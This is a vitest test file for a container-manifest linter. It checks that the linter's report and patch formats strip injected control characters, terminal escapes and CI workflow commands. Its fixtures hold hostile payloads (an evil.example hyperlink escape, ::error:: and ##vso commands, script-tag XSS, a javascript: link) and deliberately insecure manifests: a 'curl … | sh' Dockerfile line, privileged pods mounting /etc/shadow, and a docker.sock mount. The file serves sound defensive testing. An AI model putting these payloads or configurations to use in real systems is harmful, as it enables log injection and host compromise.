import { beforeAll, describe, expect, test } from "vitest";
import { fixedTexts } from "../../src/lint.ts";
import type { Report } from "../../src/model/finding.ts";
import * as patches from "../../src/report/diff.ts";
import { FORMATS, lint, print } from "./lint.ts";

/** What a manifest may try to smuggle into a terminal, a CI runner, a page or a parser. */
const PAYLOADS: Readonly<Record<string, string>> = {
  "an escape sequence": "\u001b[31mred\u001b[0m",
  "a hyperlink": "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  "a bell and a backspace": "\u0007\b\b\bgone",
  "C0 characters": "\u0001\u0002\u000b\u000c\u000e\u001f",
  DEL: "a\u007fb",
  "a carriage return": "good\rbad",
  "a line feed": "x\n::error::x",
  "C1 characters": "\u0080\u0085\u009b31m\u009d8;;x\u009c",
  "bidirectional marks": "\u202eevil\u202c\u2066x\u2069\u061c",
  "characters without width": "a\u200bb\u200c\u200d\u2060\ufeff\u00ad",
  "line separators": "a\u2028::error::x\u2029b",
  "tag characters": "x\u{e0041}\u{e0042}",
  "a workflow command": "::error::x",
  "an encoded workflow command": "%0A::warning file=a.js,line=1::x",
  "an old workflow command": "##[error]x",
  "an Azure command": "##vso[task.setvariable variable=x]y",
  "the end of a script": "</script><script>alert(1)</script>",
  "the end of CDATA": "x]]>y",
  "lone surrogates": "a\ud800b\udc00",
  "a link of Markdown": "[x](javascript:alert(1))|`y`",
};

/** All that no format may hold, line feeds aside: those are its own. */
const FORBIDDEN =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}\ud800-\udfff]/u;

const quoted = (text: string): string =>
  `"${[...text]
    .flatMap((character) => character.split(""))
    .map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`)
    .join("")}"`;

/** Manifests that carry a payload in names, images, values, comments and file names, escaped and raw. */
function manifests(payload: string): Record<string, string> {
  const value = quoted(payload);
  const line = payload.replace(/[\r\n\u0085\u2028\u2029]/g, " ");
  return {
    [`${payload}/Dockerfile`]: `FROM node:latest\nUSER root\nRUN curl http://x.example/${line} | sh\n`,
    [`a/${payload}.yaml`]: `apiVersion: v1
kind: Pod
metadata:
  name: ${value}
  namespace: ${value}
spec:
  hostNetwork: true
  containers:
    - name: ${value}
      image: ${value}
      securityContext:
        privileged: true
        capabilities: {add: [${value}, SYS_ADMIN]}
      env: [{name: ${value}, value: ${value}}]
      volumeMounts: [{name: ${value}, mountPath: ${value}}]
  volumes:
    - name: ${value}
      hostPath: {path: /etc/shadow}
`,
    "compose.yaml": `services:
  ${value}:
    image: ${value}
    privileged: true
    network_mode: host
    volumes: [${value}, "/var/run/docker.sock:/var/run/docker.sock"]
    cap_add: [${value}]
`,
    "raw.yaml": `apiVersion: v1
kind: Pod
metadata:
  name: raw
spec:
  containers:
    - name: web
      # ${line}
      image: nginx:latest # ${line}
      securityContext: {privileged: true} # ${line}
      args:
        - |
          ${line}
`,
    "broken.yaml": `kind: Pod\napiVersion: v1\nx: [}\n${line}: [\n`,
    Dockerfile: `FROM node:22\n# ${line}\nADD ${line} /opt/\nFOO ${line}\n`,
  };
}

describe.each(Object.entries(PAYLOADS))("%s", (_name, payload) => {
  let report: Report;
  let full: Report;
  beforeAll(async () => {
    report = await lint(manifests(payload));
    const [first, ...findings] = report.findings;
    if (!first) throw new Error("nothing found");
    full = {
      ...report,
      findings,
      ignored: [{ finding: first, by: "comment", reason: payload, until: payload }],
      skipped: [{ file: payload, reason: payload }],
      errors: [{ message: payload, file: payload, rule: payload }],
    };
  });

  test("every hostile file has findings to print", () => {
    expect(report.findings.length).toBeGreaterThan(15);
    const paths = report.findings.map(({ at }) => at.source.path);
    for (const path of [
      `${payload}/Dockerfile`,
      `a/${payload}.yaml`,
      "compose.yaml",
      "raw.yaml",
      "broken.yaml",
    ])
      expect(paths).toContain(path);
  });

  test.each(FORMATS)("%s holds no forbidden character and no command", async (format) => {
    for (const shown of [report, full]) {
      const text = await print(format, shown, { verbose: true, showIgnored: true });
      expect(FORBIDDEN.exec(text)).toBeNull();
      expect(text).not.toMatch(/##\[|##vso\[/);
      if (format !== "github") expect(text.split("\n").filter(isCommand)).toEqual([]);
    }
  });

  test("github gives one command a finding and nothing else", async () => {
    const lines = (await print("github", report)).split("\n");
    expect(lines.pop()).toBe("");
    expect(lines).toHaveLength(report.findings.length);
    const shape =
      /^::(?:error|warning|notice) file=[^,:]+,line=\d+,endLine=\d+(?:,col=\d+,endColumn=\d+)?,title=[^,:]+::./;
    for (const line of lines) {
      expect(line).toMatch(shape);
      expect(line).not.toMatch(/%(?!25|0A|0D|3A|2C)/);
    }
  });

  test("compact gives one line a finding", async () => {
    const lines = (await print("compact", report)).split("\n");
    expect(lines.pop()).toBe("");
    expect(lines).toHaveLength(report.findings.length);
  });

  test("json and SARIF parse and have a record a finding", async () => {
    expect(JSON.parse(await print("json", report)).findings).toHaveLength(report.findings.length);
    const [run] = JSON.parse(await print("sarif", report)).runs;
    expect(run.results).toHaveLength(report.findings.length);
    for (const { locations } of run.results) {
      const { uri } = locations[0].physicalLocation.artifactLocation;
      expect(uri).toMatch(/^[\w.!~*'()%/-]+$/);
    }
  });

  test("a patch carries no forbidden character and no command", async () => {
    const fixed = [...fixedTexts(report.findings)].map(([source, text]) => ({ source, text }));
    const text = await patches.diff(fixed);
    // A patch has the tabs of the files that it is for.
    expect(FORBIDDEN.exec(text.replaceAll("\t", " "))).toBeNull();
    expect(text).not.toMatch(/##\[|##vso\[/);
    expect(text.split("\n").filter(isCommand)).toEqual([]);
  });
});

/** A runner looks for a command behind blanks, too. */
const isCommand = (line: string): boolean => line.trimStart().startsWith("::");
